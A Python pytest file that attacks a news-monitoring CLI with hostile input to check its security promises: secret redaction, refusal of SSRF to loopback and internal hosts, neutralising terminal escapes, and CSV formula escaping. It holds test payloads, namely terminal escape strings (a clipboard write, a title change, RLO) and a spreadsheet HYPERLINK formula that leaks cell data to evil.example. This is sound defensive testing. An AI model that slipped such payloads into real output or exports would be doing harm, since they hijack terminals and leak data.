"""Hostile input against the security promises (issue 14, items 6-10 and 15): the real
`monitor` CLI in subprocesses, a real HTTP server on 127.0.0.1, real files and stores."""

from __future__ import annotations

import csv
import html
import json
import shutil
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from hostile import dangerous
from running import cli, query
from servers import webhook_server

Route = tuple[int, dict[str, str], bytes]

ESC_TITLE = "\x1b]52;c;cHduZWQ=\x07\x1b]0;owned\x07"  # clipboard write, window title
C1 = "\x9b2J"  # C1 CSI: clear the screen
RLO = "\u202e"


@contextmanager
def site(routes: dict[str, Route]) -> Iterator[tuple[str, list[str]]]:
    """A web server on 127.0.0.1 answering by path; yields its base URL and the paths
    requested, in order."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            status, headers, body = routes.get(self.path, (404, {}, b""))
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()


def rss(items: list[tuple[str, str, str]]) -> Route:
    """(title, link, summary) entries; titles go in as XML character references, so
    control characters reach feedparser as a hostile feed would send them."""
    body = "".join(
        f"<item><guid>{link}</guid><title>{''.join(f'&#{ord(c)};' for c in title)}</title>"
        f"<link>{html.escape(link)}</link><description>{html.escape(summary)}</description></item>"
        for title, link, summary in items
    )
    doc = f'<?xml version="1.0"?><rss version="2.0"><channel><title>Wire</title>{body}</channel></rss>'
    return 200, {"Content-Type": "application/rss+xml"}, doc.encode()


def page(text: str) -> Route:
    doc = f"<html><head><title>{text[:40]}</title></head><body><article><p>{text}</p></article></body></html>"
    return 200, {"Content-Type": "text/html; charset=utf-8"}, doc.encode()


def feed(name: str, url: str, extra: str = "") -> str:
    return f'[[feeds]]\nname = "{name}"\nurl = "{url}"\njitter = "0s"\n{extra}'


SUMMARY = (
    "Sanctions were imposed on the arms shipments after the missile tests, officials said. "
    "The ministry named three companies that had moved rocket parts through the port. "
    "Diplomats expect the council to debate a wider embargo when it meets next week. "
    "Shipping agents said inspections at the border had slowed trade for a month."
)


# -- 6. secrets ------------------------------------------------------------------------


def test_webhook_credentials_are_not_printed_logged_or_stored(
    make_config: Callable[..., Path], tmp_path: Path, seeds: list[Path]
) -> None:
    with webhook_server(["ok"]) as hook:
        url = hook.url().replace("http://", "http://alice:s3cr3t-pass@") + "?token=tok-998877"
        config = make_config(
            f'[[alerts.channels]]\nname = "ops"\ntype = "webhook"\nurl = "{url}"\n'
            '[[alerts.rules]]\nname = "all"\nchannels = ["ops", "log"]\n'
            '[logging]\nlevel = "debug"\nformat = "json"\n'
        )
        checked = cli(config, "check-config")
        shutil.copy(seeds[0], tmp_path / "inbox" / seeds[0].name)
        ingested = cli(config, "ingest", str(tmp_path / "inbox"))
    assert hook.received, "the webhook was called"
    for output in (checked.stdout, checked.stderr, ingested.stdout, ingested.stderr):
        assert "s3cr3t-pass" not in output and "tok-998877" not in output
    assert "http://[redacted]@127.0.0.1" in checked.stdout and "token=[redacted]" in checked.stdout


def test_a_feed_url_token_stays_out_of_listings_and_exports(
    make_config: Callable[..., Path], tmp_path: Path
) -> None:
    routes = {"/feed.xml?key=k-123456": rss([("Arms sanctions", "", SUMMARY)])}
    with site(routes) as (base, _asked):
        config = make_config(
            feed("wire", f"{base}/feed.xml?key=k-123456", "allow_private = true\n")
        )
        cli(config, "feeds", "poll")
        listing = cli(config, "feeds", "list").stdout + cli(config, "feeds", "--json").stdout
        exported = cli(config, "export").stdout
    assert "k-123456" not in listing and "key=[redacted]" in listing
    assert exported and "k-123456" not in exported  # the entry has no link: origin is the feed


# -- 7. fetches never reach the inside ---------------------------------------------------


def test_a_feed_on_an_internal_address_is_refused_unless_allowed(
    make_config: Callable[..., Path], tmp_path: Path
) -> None:
    routes = {"/feed.xml": rss([("Arms sanctions", "", SUMMARY)])}
    with site(routes) as (base, asked):
        local = base.replace("127.0.0.1", "localhost")
        config = make_config(feed("loop", f"{base}/feed.xml") + feed("named", f"{local}/feed.xml"))
        polled = cli(config, "feeds", "poll", check=False)
        listing = cli(config, "feeds").stdout
        assert asked == []  # nothing was requested
        allowed = make_config(feed("loop", f"{base}/feed.xml", "allow_private = true\n"))
        assert "1 new" in cli(allowed, "feeds", "poll", "--force").stdout
    assert polled.returncode == 1
    assert (
        f"loop: error: refused to fetch {base}/feed.xml: 127.0.0.1 is a loopback" in polled.stdout
    )
    assert "named: error: refused to fetch" in polled.stdout
    assert "localhost resolves to 127.0.0.1, a loopback address" in polled.stdout
    assert "allow_private = true" in listing and "loop  [1 errors in a row]" in listing


def test_full_text_links_and_redirects_to_other_internal_hosts_are_refused(
    make_config: Callable[..., Path], tmp_path: Path
) -> None:
    routes: dict[str, Route] = {"/page/ok": page("The whole article about arms sanctions. " * 5)}
    with site(routes) as (base, asked):
        internal = base.replace("127.0.0.1", "localhost") + "/admin/secret"
        routes["/admin/secret"] = page("INTERNAL-ADMIN-SECRET " * 20)
        routes["/page/jump"] = (302, {"Location": internal}, b"")
        routes["/feed.xml"] = rss(
            [
                ("Own host", f"{base}/page/ok", SUMMARY),
                ("Other internal host", internal, "First. " + SUMMARY),
                ("Redirected inside", f"{base}/page/jump", "Second. " + SUMMARY),
            ]
        )
        config = make_config(
            feed("wire", f"{base}/feed.xml", "full_text = true\nallow_private = true\n")
        )
        cli(config, "feeds", "poll")
        listing = cli(config, "feeds", "list").stdout
        exported = cli(config, "export").stdout
    assert "/admin/secret" not in asked  # neither the link nor the redirect reached it
    assert "/page/ok" in asked and "/page/jump" in asked
    texts = [t for (t,) in query(tmp_path / "monitor.db", "SELECT text FROM articles")]
    assert len(texts) == 3 and not any("INTERNAL-ADMIN-SECRET" in t for t in texts)
    assert "INTERNAL-ADMIN-SECRET" not in exported
    assert any("The whole article" in t for t in texts)  # the feed's own host: fetched
    assert "full-text page(s) refused" in listing and "allow_private" in listing
    reasons = query(tmp_path / "monitor.db", "SELECT full_text_error FROM feed_entries")
    assert sum(1 for (r,) in reasons if r and r.startswith("refused to fetch")) == 2


# -- 8. untrusted text is inert ----------------------------------------------------------


def test_hostile_titles_and_file_names_reach_no_terminal_raw(
    make_config: Callable[..., Path], tmp_path: Path, seeds: list[Path]
) -> None:
    hostile = f"Arms sanctions {ESC_TITLE}{C1} {RLO}gpj.exe"
    routes = {"/feed.xml": rss([(hostile, "", SUMMARY)])}
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    named = inbox / f"{ESC_TITLE}{RLO}seed{C1}.txt"
    shutil.copy(seeds[0], named)
    (inbox / f"{ESC_TITLE}broken.txt").write_bytes(b"\x00\x01\x02" * 100)
    with site(routes) as (base, _asked):
        config = make_config(
            feed("wire", f"{base}/feed.xml", "allow_private = true\n"), console=True
        )
        outputs = [cli(config, "feeds", "poll"), cli(config, "ingest", str(inbox), check=False)]
    db = tmp_path / "monitor.db"
    ids = [i for (i,) in query(db, "SELECT id FROM articles ORDER BY id")]
    stored = "".join(o for (o,) in query(db, "SELECT origin || coalesce(title, '') FROM articles"))
    assert "\x1b" in stored, "the hostile text is stored as it came (only output is inert)"
    story = query(db, "SELECT story FROM articles WHERE story IS NOT NULL")[0][0]
    for args in (
        *[("show", str(i)) for i in ids],
        *[("show", str(i), "--json") for i in ids],
        ("search", "sanctions"),
        ("search", "sanctions", "--json"),
        ("stories",),
        ("stories", "--json"),
        ("story", story),
        ("story", story, "--json"),
        ("alerts",),
        ("alerts", "--json"),
        ("failures",),
        ("feeds", "list"),
        ("feeds", "--json"),
        ("status",),
        ("status", "--json"),
        ("export",),
    ):
        outputs.append(cli(config, *args, check=False))
    for result in outputs:
        assert dangerous(result.stdout) == [], (result.args, result.stdout[:300])
        assert dangerous(result.stderr) == [], (result.args, result.stderr[:300])
    shown = cli(config, "show", str(ids[-1]), "--json").stdout
    assert "\x1b]52;" in json.loads(shown)["origin"]  # JSON escapes it and keeps it
    assert "broken.txt" in cli(config, "failures").stdout


def test_csv_export_cells_cannot_be_formulas(
    make_config: Callable[..., Path], tmp_path: Path
) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
    routes = {"/feed.xml": rss([(formula, "", SUMMARY), ("@SUM(A1:A9) arms", "", SUMMARY + " x")])}
    with site(routes) as (base, _asked):
        config = make_config(feed("wire", f"{base}/feed.xml", "allow_private = true\n"))
        cli(config, "feeds", "poll")
    out = tmp_path / "export.csv"
    cli(config, "export", "--format", "csv", "-o", str(out))
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    titles = sorted(r["title"] for r in rows)
    assert titles == ["'" + formula, "'@SUM(A1:A9) arms"]
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@")) for v in row.values())


# -- 9. keys unique across stores ------------------------------------------------------


def test_two_stores_send_different_keys_for_their_own_alerts(
    tmp_path: Path, seeds: list[Path]
) -> None:
    keys: list[set[str]] = []
    with webhook_server(["ok"]) as hook:
        for name in ("one", "two"):
            folder = tmp_path / name
            (folder / "inbox").mkdir(parents=True)
            shutil.copy(seeds[0], folder / "inbox" / seeds[0].name)
            config = folder / "config.toml"
            config.write_text(
                '[inbox]\npaths = ["inbox"]\n[store]\npath = "monitor.db"\n'
                '[alerts]\nlog = "alerts.jsonl"\nconsole = false\n'
                f'[[alerts.channels]]\nname = "ops"\ntype = "webhook"\nurl = "{hook.url()}"\n'
                '[[alerts.rules]]\nname = "all"\nchannels = ["ops"]\n',
                encoding="utf-8",
            )
            cli(config, "ingest", str(folder / "inbox"))
            keys.append({k for (k,) in query(folder / "monitor.db", "SELECT key FROM alerts")})
    assert keys[0] and keys[1] and not keys[0] & keys[1]
    sent = [r.headers["Idempotency-Key"] for r in hook.received]
    assert len(sent) == len(set(sent)) == len(keys[0]) + len(keys[1])


# -- 10. limits on what config can ask -------------------------------------------------


@pytest.mark.parametrize("term", ["[", ".*"])
def test_check_config_names_a_term_that_can_never_match(
    make_config: Callable[..., Path], tmp_path: Path, term: str
) -> None:
    topics = tmp_path / "my-topics.toml"
    topics.write_text(f'[arms]\nterms = {{ "missile" = 3, "{term}" = 1 }}\n', encoding="utf-8")
    config = make_config(f'[tagging]\ntaxonomy = "{topics.name}"\n')
    result = cli(config, "check-config", check=False)
    assert result.returncode == 2
    assert f"{topics}: topic 'arms': term '{term}'" in result.stderr


# -- 15. CLI input -------------------------------------------------------------------


def test_a_huge_id_and_a_query_starting_with_a_minus(
    make_config: Callable[..., Path], tmp_path: Path, seeds: list[Path]
) -> None:
    config = make_config()
    for seed in seeds:
        shutil.copy(seed, tmp_path / "inbox" / seed.name)
    cli(config, "ingest", str(tmp_path / "inbox"))
    huge = cli(config, "show", "99999999999999999999", check=False)
    assert huge.returncode == 1 and "Traceback" not in huge.stderr
    assert "no article #99999999999999999999" in huge.stderr
    dashed = cli(config, "search", "-بوتين", "--limit", "3")
    plain = cli(config, "search", "بوتين", "--limit", "3")
    assert dashed.stdout == plain.stdout and dashed.stdout.count("\n#") + 1 >= 1
    as_json = cli(config, "search", "--json", "-بوتين", "كوريا")
    assert as_json.stdout and all(json.loads(line)["id"] for line in as_json.stdout.splitlines())
